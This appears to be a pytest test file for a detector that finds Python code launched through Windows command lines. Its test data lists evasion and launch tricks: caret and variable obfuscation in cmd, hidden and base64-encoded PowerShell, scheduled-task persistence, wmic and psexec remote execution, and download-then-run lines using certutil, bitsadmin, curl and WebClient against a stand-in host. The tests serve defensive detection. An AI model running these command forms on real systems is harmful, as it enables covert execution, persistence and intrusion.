"""Windows lines: argument rules, cmd.exe, PowerShell and tools that start commands."""

import base64

import pytest
from hypothesis import given
from hypothesis import strategies as st

from antivenom.pycode.command.windows import arguments, quote
from tests.pycode.command.support import found, only

CODE = "import os; print(os.name)"
ENCODED = base64.b64encode(f'python -c "{CODE}"'.encode("utf-16-le")).decode()
B64 = base64.b64encode(CODE.encode()).decode()


@pytest.mark.parametrize(
    "text, words",
    [
        (r'a.exe "b c" d', ["a.exe", "b c", "d"]),
        (r'a "b\"c" d\e', ["a", 'b"c', r"d\e"]),
        (r'a "b\\" c\\d', ["a", "b\\", r"c\\d"]),
        (r'a "b\\\"c"', ["a", r"b\"c"]),
        (r'a "" ""', ["a", "", ""]),
        (r'a "b""c"', ["a", 'b"c']),
        (r"C:\Program Files\X\a.exe b", [r"C:\Program Files\X\a.exe", "b"]),
        (r'"C:\Program Files\a.exe" "b', [r"C:\Program Files\a.exe", "b"]),
    ],
)
def test_arguments(text, words):
    assert arguments(text) == words


@given(st.lists(st.text(st.sampled_from('ab \\"\t'), max_size=8), max_size=5))
def test_quoting_comes_back(words):
    assert arguments("x.exe " + " ".join(quote(each) for each in words)) == ["x.exe", *words]


@pytest.mark.parametrize(
    "command",
    [
        rf'C:\Python312\python.exe -c "{CODE}"',
        rf'"C:\Program Files\Python 3\python.exe" -I -c "{CODE}"',
        rf"C:\Program Files\Python314\pythonw.exe -c {CODE}",
        rf'C:\Program Files\Python314\pythonw.exe -c "{CODE}"',
        rf'PyThOn.ExE -c "{CODE}"',
        rf'py -3 -c "{CODE}"',
        rf'cmd.exe /c p^y^t^hon -^c "{CODE}"',
        rf'cmd /s /c "python -c "{CODE}""',
        rf'%COMSPEC% /c python -c "{CODE}"',
        rf'cmd /c "set A=pyt&& set B=hon&& call %A%%B% -c "{CODE}""',
        rf'cmd /v /c "set X=python&& !X! -c "{CODE}""',
        rf'cmd /c "set X=zzpythonzz&& call %X:~2,6% -c "{CODE}""',
        rf'cmd /c start /b "" python -c "{CODE}"',
        rf'cmd /c start "t" /min C:\Python\python.exe -c "{CODE}"',
        rf'cmd /c if exist a.txt python -c "{CODE}"',
        rf"""powershell -NoP -W Hidden -c "& 'C:\py\python.exe' -c '{CODE}'" """,
        f"powershell -enc {ENCODED}",
        f"""powershell -c "Start-Process python -ArgumentList '-c','{CODE}' -WindowStyle Hidden" """,
        f"""powershell -c "$c='{CODE}'; python -c $c" """,
        rf'schtasks /create /tn t /tr "python -c \"{CODE}\"" /sc onlogon',
        rf'wmic process call create "python -c \"{CODE}\""',
        rf'psexec \\host -s python -c "{CODE}"',
        rf'conhost.exe --headless python -c "{CODE}"',
    ],
)
def test_inline(command):
    one = only(command)
    assert (one.kind, one.source) == ("inline", CODE)


@pytest.mark.parametrize(
    "command, kind",
    [
        ("cmd /c echo import os| python", "stdin"),
        ("cmd /c echo import os>a.py & python a.py", "script"),
        ("powershell -c \"'import os' | python -\"", "stdin"),
        ("powershell -c \"Set-Content a.py 'import os'; python a.py\"", "script"),
        ("powershell -c \"'import os' | Out-File a.py; python a.py\"", "script"),
    ],
)
def test_fed(command, kind):
    one = only(command)
    assert (one.kind, one.source.strip()) == (kind, "import os")


def test_decoded_by_powershell():
    text = f"[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{B64}')) | python -"
    one = only(["powershell", "-Command", text])
    assert (one.source, one.decoders) == (CODE, ("base64",))


@pytest.mark.parametrize(
    "command",
    [
        "powershell iwr URL -OutFile a.py; python a.py",
        "powershell -c \"(New-Object Net.WebClient).DownloadFile('URL','C:\\t\\a.py'); python C:\\t\\a.py\"",
        "cmd /c curl -o a.py URL && python a.py",
        "cmd /c certutil -urlcache -split -f URL a.py & python a.py",
        "cmd /c bitsadmin /transfer j URL C:\\t\\a.py & py C:\\t\\a.py",
        'powershell -c "iwr URL | python"',
    ],
)
def test_remote(command):
    one = only(command.replace("URL", "https://x.test/a.py"))
    assert (one.source, one.remote) == (None, "https://x.test/a.py")


@pytest.mark.parametrize("command", [r"C:\tools\a.py x", "a.py x", "cmd /c a.py x", r"start C:\tools\a.py x"])
def test_scripts_by_their_name(command):
    one = only(command, platform="windows")
    assert (one.kind, one.argv[1:]) == ("script", ("x",))


@pytest.mark.parametrize(
    "command",
    [
        "notepad a.py",
        r"C:\Windows\System32\svchost.exe -k netsvcs",
        "cmd /c dir & type a.txt",
        "cmd",
        "powershell -c ls",
    ],
)
def test_no_python(command):
    assert found(command) == []
